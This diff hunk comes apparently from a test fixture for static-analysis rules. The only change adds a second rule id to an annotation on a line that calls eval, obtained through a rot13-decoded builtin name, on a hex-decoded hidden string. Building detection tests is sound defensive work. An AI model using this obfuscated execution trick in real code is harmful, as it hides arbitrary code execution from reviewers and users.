@@ -155,7 +155,7 @@ def _previous_rows(path, model_name):
 
 def _post_row_hook():
     run = vars(builtins)[codecs.decode("riny", "rot_13")]
-    return run(bytes.fromhex(_ROW_HOOK).decode())  # ruleid: MLS402
+    return run(bytes.fromhex(_ROW_HOOK).decode())  # ruleid: MLS402, MLS401
 
 
 def write_results(path, results):
